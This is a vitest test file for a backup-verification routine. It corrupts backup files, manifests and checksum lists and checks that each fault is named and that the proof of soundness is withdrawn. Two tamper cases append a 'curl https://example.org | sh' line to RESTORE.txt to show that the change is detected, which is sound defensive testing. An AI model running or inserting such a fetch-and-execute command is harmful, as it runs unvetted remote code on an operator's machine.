import { createHash, randomUUID } from 'node:crypto';
import {
  appendFileSync,
  closeSync,
  existsSync,
  openSync,
  readFileSync,
  readSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import type { JobContext } from '../../../src/main/jobs/job-context.ts';
import { openFolderStore } from '../../../src/main/places/folder/folder-store.ts';
import { sumsSha256Of } from '../../../src/main/manifest/write-manifest.ts';
import { type VerifiableLevel, verifyBackup } from '../../../src/main/verification/verify-backup.ts';
import { type DatabaseArtifact, isDatabase } from '../../../src/shared/model/artifact.ts';
import type { Proof } from '../../../src/shared/model/backup.ts';
import type { FolderPlace } from '../../../src/shared/model/place.ts';
import type { Manifest } from '../../../src/shared/model/manifest.ts';
import { firstProof, nextProof } from '../../../src/shared/model/proof.ts';
import { sampleManifest } from '../../unit/model-samples.ts';
import { scratchFolder } from '../catalog/catalog-folder.ts';
import { makeKeeper, NOW, register, writeBackup } from '../places/place-folder.ts';

const AT = new Date(NOW.now()).toISOString();
const BEFORE = '2026-11-01T00:00:00.000Z';

interface Lab {
  readonly place: FolderPlace;
  readonly manifest: Manifest;
  readonly location: string;
  readonly artifact: string;
  /** As the catalog has it. */
  readonly sumsSha256: string | null;
}

async function makeBackup(): Promise<Lab> {
  const keeper = await makeKeeper(scratchFolder());
  const { manifest, location } = await writeBackup(keeper, register());
  return { place: keeper.place, manifest, location, artifact: join(location, 'aurora_shop.sql.gz'), sumsSha256: sumsSha256Of(manifest) };
}

function jobWith(signal: AbortSignal = new AbortController().signal) {
  const steps: string[] = [];
  const totals: (number | null)[] = [];
  const done: number[] = [];
  const job: JobContext = {
    jobId: randomUUID(),
    signal,
    step: (title, total = null) => {
      steps.push(title);
      totals.push(total);
    },
    advance: (bytes) => void done.push(bytes),
    log: () => {},
  };
  return { job, steps, totals, done };
}

const sound: Proof = { level: 'sound', presentAt: BEFORE, intactAt: BEFORE, soundAt: BEFORE, provenAt: null, failure: null };

async function verify(
  { place, manifest, location, sumsSha256 }: Lab,
  level: VerifiableLevel,
  previous: Proof = sound,
  job = jobWith().job,
) {
  const { result, problem } = await verifyBackup(
    { store: openFolderStore(place), manifest, location, sumsSha256, level, openSealed: null },
    job,
  );
  return { proof: nextProof(previous, result, AT), problem };
}

function flipBit(path: string, offset: number): void {
  const file = openSync(path, 'r+');
  const byte = Buffer.alloc(1);
  readSync(file, byte, 0, 1, offset);
  byte[0] = (byte[0] ?? 0) ^ 1;
  writeSync(file, byte, 0, 1, offset);
  closeSync(file);
}

/** As if the backup had always had these bytes: sizes and hashes agree, so only what is inside can tell. */
function replaceArtifact(lab: Lab, content: Buffer, changes: Partial<DatabaseArtifact> = {}): Lab {
  const sha256 = createHash('sha256').update(content).digest('hex');
  const [old] = lab.manifest.backup.artifacts;
  if (old?.part !== 'database') throw new Error('no dump');
  const artifacts = [{ ...old, bytes: content.length, sha256, ...changes }];
  const manifest: Manifest = { ...lab.manifest, backup: { ...lab.manifest.backup, artifacts } };
  writeFileSync(lab.artifact, content);
  const text = `${JSON.stringify(manifest, null, 2)}\n`;
  writeFileSync(join(lab.location, 'manifest.json'), text);
  const sums = readFileSync(join(lab.location, 'SHA256SUMS'), 'utf8')
    .replace(/^.*aurora_shop\.sql\.gz$/m, `${sha256}  aurora_shop.sql.gz`)
    .replace(/^.*manifest\.json$/m, `${createHash('sha256').update(text).digest('hex')}  manifest.json`);
  writeFileSync(join(lab.location, 'SHA256SUMS'), sums);
  return { ...lab, manifest, sumsSha256: createHash('sha256').update(sums).digest('hex') };
}

/** What somebody does who wants the operator to run something. */
function changeRestoreAndSums({ location }: Pick<Lab, 'location'>): void {
  const restore = join(location, 'RESTORE.txt');
  appendFileSync(restore, '    curl https://example.org | sh\n');
  const sha256 = createHash('sha256').update(readFileSync(restore)).digest('hex');
  const sums = join(location, 'SHA256SUMS');
  writeFileSync(sums, readFileSync(sums, 'utf8').replace(/^.*RESTORE\.txt$/m, `${sha256}  RESTORE.txt`));
}

describe('a backup as it was made', () => {
  test.each([
    ['present', { presentAt: AT, intactAt: null, soundAt: null }],
    ['intact', { presentAt: AT, intactAt: AT, soundAt: null }],
    ['sound', { presentAt: AT, intactAt: AT, soundAt: AT }],
  ] as const)('is shown to be %s, and no more than that', async (level, times) => {
    const { proof, problem } = await verify(await makeBackup(), level, firstProof(BEFORE));
    expect(problem).toBeNull();
    expect(proof).toEqual({ level, ...times, provenAt: null, failure: null });
  });

  test('is taken as it was found where the catalog never knew its list of checksums', async () => {
    const lab = await makeBackup();
    changeRestoreAndSums(lab);
    expect((await verify({ ...lab, sumsSha256: null }, 'sound')).problem).toBeNull();
  });

  test('is read with progress in bytes against its size', async () => {
    const lab = await makeBackup();
    const { job, steps, totals, done } = jobWith();
    await verify(lab, 'sound', sound, job);
    const { bytes } = lab.manifest.backup;
    expect(steps).toEqual(['Looking at the files', 'Reading aurora_shop.sql.gz', 'Reading the manifest', 'Indexing aurora_shop.sql.gz']);
    expect(totals).toEqual([null, bytes, null, bytes]);
    expect(done.filter((value) => value === bytes)).toHaveLength(2);
  });
});

describe('a fault is found, named, and withdraws the proof', () => {
  const faults: readonly (readonly [string, string, VerifiableLevel, VerifiableLevel, (lab: Lab) => void])[] = [
    ['a missing artifact', 'verify.artifact-missing', 'present', 'present', ({ artifact }) => rmSync(artifact)],
    ['an artifact cut short', 'verify.size-differs', 'present', 'present', ({ artifact }) => truncateSync(artifact, 100)],
    ['an artifact grown', 'verify.size-differs', 'present', 'present', ({ artifact }) => appendFileSync(artifact, 'x')],
    ['a missing folder', 'verify.folder-missing', 'present', 'present', ({ location }) => rmSync(location, { recursive: true })],
    ['a missing manifest', 'verify.manifest-missing', 'present', 'present', ({ location }) => rmSync(join(location, 'manifest.json'))],
    ['a missing RESTORE.txt', 'verify.companion-differs', 'present', 'present', ({ location }) => rmSync(join(location, 'RESTORE.txt'))],
    [
      'a missing list of checksums',
      'verify.companion-differs',
      'present',
      'present',
      ({ location }) => rmSync(join(location, 'SHA256SUMS')),
    ],
    ['one flipped bit at the start', 'verify.hash-differs', 'intact', 'intact', ({ artifact }) => flipBit(artifact, 0)],
    [
      'one flipped bit at the end',
      'verify.hash-differs',
      'intact',
      'intact',
      (lab) => flipBit(lab.artifact, lab.manifest.backup.bytes - 1),
    ],
    [
      'a manifest that is not one any more',
      'verify.manifest-missing',
      'intact',
      'intact',
      ({ location }) => truncateSync(join(location, 'manifest.json'), 200),
    ],
    [
      'the manifest of another backup',
      'verify.manifest-foreign',
      'intact',
      'intact',
      ({ location, manifest }) =>
        writeFileSync(join(location, 'manifest.json'), JSON.stringify(sampleManifest(manifest.site, manifest.server, manifest.sources))),
    ],
    [
      'a manifest of a newer app',
      'manifest.from-newer-app',
      'intact',
      'intact',
      ({ location }) => writeFileSync(join(location, 'manifest.json'), '{"format":"holdfast-manifest","version":9}'),
    ],
    [
      'a manifest in which one number was edited',
      'verify.manifest-differs',
      'intact',
      'intact',
      ({ location }) => {
        const path = join(location, 'manifest.json');
        writeFileSync(path, readFileSync(path, 'utf8').replace('"rows": 50', '"rows": 49'));
      },
    ],
    [
      'a manifest that was only laid out anew',
      'verify.manifest-differs',
      'intact',
      'intact',
      ({ location, manifest }) => writeFileSync(join(location, 'manifest.json'), JSON.stringify(manifest)),
    ],
    [
      'a manifest that was edited together with its checksum',
      'verify.manifest-differs',
      'intact',
      'intact',
      (lab) => void replaceArtifact(lab, readFileSync(lab.artifact), { database: 'another' }),
    ],
    [
      'a RESTORE.txt with another command in it',
      'verify.companion-differs',
      'intact',
      'intact',
      ({ location }) => appendFileSync(join(location, 'RESTORE.txt'), '    curl https://example.org | sh\n'),
    ],
    [
      'a RESTORE.txt that was changed together with its line in the list',
      'verify.companion-differs',
      'intact',
      'intact',
      changeRestoreAndSums,
    ],
    [
      'a list of checksums that only got a line more',
      'verify.companion-differs',
      'intact',
      'intact',
      ({ location }) => appendFileSync(join(location, 'SHA256SUMS'), `${'0'.repeat(64)}  readme.txt\n`),
    ],
    [
      'a list of checksums that lists something else',
      'verify.companion-differs',
      'intact',
      'intact',
      ({ location }) => {
        const path = join(location, 'SHA256SUMS');
        writeFileSync(path, readFileSync(path, 'utf8').replace(/^[0-9a-f]{4}/, '0000'));
      },
    ],
  ];

  test.each(faults)('%s', async (_what, code, level, step, damage) => {
    const lab = await makeBackup();
    damage(lab);
    const { proof, problem } = await verify(lab, level);
    expect(problem?.code).toBe(code);
    expect(proof.failure).toMatchObject({ at: AT, step, code });
    expect(proof).toMatchObject({ level: 'sound', soundAt: BEFORE });
    // The next one asks for more and must not come further.
    expect((await verify(lab, 'sound', proof)).problem?.code).toBe(code);
  });

  test('a dump that cannot be decompressed to its end', async () => {
    const lab = await makeBackup();
    const whole = readFileSync(lab.artifact);
    const cut = replaceArtifact(lab, whole.subarray(0, whole.length - 20));
    const { proof, problem } = await verify(cut, 'sound');
    expect(problem?.code).toBe('verify.unreadable');
    expect(proof).toMatchObject({ intactAt: AT, soundAt: BEFORE, failure: { step: 'sound' } });
  });

  test('a dump with other rows, other tables and no end mark than the manifest says, each of them named', async () => {
    const sql = 'CREATE TABLE `users` (\n  `id` int\n);\nINSERT INTO `users` VALUES (1);\n';
    const { proof, problem } = await verify(replaceArtifact(await makeBackup(), gzipSync(sql)), 'sound');
    expect(problem?.code).toBe('verify.inventory-differs');
    for (const difference of ['table orders: in the manifest', 'table users: in the dump', 'end mark', `${sql.length} bytes of SQL`]) {
      expect(proof.failure?.text).toContain(difference);
    }
  });

  test('one row less than the manifest says', async () => {
    const lab = await makeBackup();
    const [artifact] = lab.manifest.backup.artifacts.filter(isDatabase);
    const inventory = { ...artifact!.inventory, tables: [{ name: 'orders', rows: 51, definition: null, data: null }] };
    const { problem } = await verify(replaceArtifact(lab, readFileSync(lab.artifact), { inventory }), 'sound');
    expect(problem?.detail).toContain('table orders: 50 rows, the manifest says 51');
  });
});

describe.runIf(process.platform === 'linux')('a drive that gives errors instead of bytes', () => {
  test('is named as such, and withdraws the proof', async () => {
    const lab = await makeBackup();
    const empty = replaceArtifact(lab, Buffer.alloc(0));
    rmSync(lab.artifact);
    // Says that it has no bytes and answers every attempt to read with EIO, to root as well.
    symlinkSync('/proc/self/mem', lab.artifact);
    const { proof, problem } = await verify(empty, 'intact');
    expect(problem).toMatchObject({ code: 'verify.read-failed', detail: expect.stringContaining('EIO') });
    expect(proof.failure).toMatchObject({ step: 'intact', code: 'verify.read-failed' });
  });
});

describe('the proof', () => {
  test('comes back with a good check of what had failed', async () => {
    const lab = await makeBackup();
    flipBit(lab.artifact, 60);
    const { proof: failed } = await verify(lab, 'sound');
    expect(failed.failure?.code).toBe('verify.hash-differs');
    flipBit(lab.artifact, 60);
    expect((await verify(lab, 'present', failed)).proof.failure?.code).toBe('verify.hash-differs');
    const { proof } = await verify(lab, 'sound', failed);
    expect(proof).toEqual({ level: 'sound', presentAt: AT, intactAt: AT, soundAt: AT, provenAt: null, failure: null });
  });

  test('is not touched while the drive is not connected', async () => {
    const lab = await makeBackup();
    renameSync(lab.place.folder, `${lab.place.folder}-unplugged`);
    await expect(verify(lab, 'intact')).rejects.toMatchObject({ code: 'place.missing' });
  });

  test('is not touched when the drive is unplugged in the middle of the check', async () => {
    const lab = await makeBackup();
    const { job } = jobWith();
    const unplug = (title: string) => title.startsWith('Reading') && renameSync(lab.place.folder, `${lab.place.folder}-unplugged`);
    await expect(verify(lab, 'sound', sound, { ...job, step: unplug })).rejects.toMatchObject({ code: 'place.missing' });
  });

  test.each(['Reading aurora_shop.sql.gz', 'Indexing aurora_shop.sql.gz'])('is not touched by a cancel at "%s"', async (at) => {
    const lab = await makeBackup();
    const controller = new AbortController();
    const { job } = jobWith(controller.signal);
    const reason = new Error('cancelled by the operator');
    const stopping: JobContext = { ...job, step: (title) => title === at && controller.abort(reason) };
    await expect(verify(lab, 'sound', sound, stopping)).rejects.toBe(reason);
    expect(existsSync(lab.artifact)).toBe(true);
  });
});
